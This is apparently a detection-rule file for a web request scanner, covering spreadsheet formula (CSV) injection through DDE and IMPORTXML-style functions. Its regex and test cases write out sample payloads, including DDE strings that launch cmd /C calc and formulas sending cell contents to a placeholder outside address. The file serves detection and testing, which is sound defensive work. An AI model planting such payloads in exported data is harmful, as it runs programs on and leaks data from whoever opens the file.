import { each } from '../example.ts'
import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'cmdi/spreadsheet-formula',
  title: 'Spreadsheet formula that runs or fetches',
  why: 'A value that becomes a formula once somebody exports it and opens the file: it starts a program (DDE) or sends cells to another server.',
  ja: {
    title: 'プログラムの起動や通信を行う表計算の数式',
    why: '書き出したファイルを誰かが開くと数式になる値です。プログラムを起動したり（DDE）、セルの内容を外部へ送ったりします。',
    falsePositives: 'オンラインの表計算サービスです。',
  },
  severity: 'medium',
  stage: 'inject',
  attack: ['T1559.002', 'T1190'],
  cwe: [1236],
  refs: [
    'https://owasp.org/www-community/attacks/CSV_Injection',
    'https://attack.mitre.org/techniques/T1559/002/',
  ],
  falsePositives: 'Online spreadsheets.',

  where: ['arg', 'agent'],
  needs: [
    [
      "|'",
      "| '",
      '|"',
      'importxml(',
      'importhtml(',
      'importfeed(',
      'importdata(',
      'importrange(',
      'webservice(',
      'hyperlink(',
      'image("h',
      'dde(',
      'dde (',
      'importxml (',
    ],
  ],
  match:
    /[=+@-][^|\n]{0,60}\b(?:cmd|msexcel|powershell|rundll32|mshta|certutil)\s?\|\s?["']|[=+@-]\s?(?:IMPORT(?:XML|HTML|FEED|DATA|RANGE)\s?\(\s?(?:["']https?:|CONCAT)|(?:WEBSERVICE|HYPERLINK|IMAGE)\(\s?["']https?:)|\bDDE\s?\(\s?["']/i,

  hits: [
    "GET /a?name=%3Dcmd|'/C%20calc'!A0 HTTP/1.1",
    "GET /a?name=@SUM(1)*cmd|%20'/C%20calc'!A0 HTTP/1.1",
    'GET /a?name=%2B1-powershell|"x"!A0 HTTP/1.1',
    ...each("GET /a?name=-1%2B{}|'x'!A0 HTTP/1.1", 'msexcel rundll32 mshta certutil'),
    ...each(
      'GET /a?name=%3D{}("http://203.0.113.9/",A1) HTTP/1.1',
      'IMPORTXML IMPORTHTML IMPORTFEED IMPORTDATA IMPORTRANGE WEBSERVICE HYPERLINK IMAGE',
    ),
    'GET /a?name=%3DIMPORTXML%20(CONCAT("http://203.0.113.9/",A1)) HTTP/1.1',
    'GET /a?name=DDE("cmd";"/C";"A0") HTTP/1.1',
    'GET /a?name=DDE%20("cmd";"/C";"A0") HTTP/1.1',
    { request: 'GET / HTTP/1.1', agent: "=cmd|'/C calc'!A0" },
  ],
  misses: [
    'GET /a?f=%3DSUM(A1:A10) HTTP/1.1',
    "GET /a?q=cats|'dogs' HTTP/1.1",
    'GET /a?q=hyperlink("name")+in+excel HTTP/1.1',
    'GET /a?q=what+is+dde(link) HTTP/1.1',
    {
      request: 'GET /style.css HTTP/1.1',
      referrer: "https://www.example.com/a?name=%3Dcmd|'/C%20calc'!A0",
    },
  ],
})
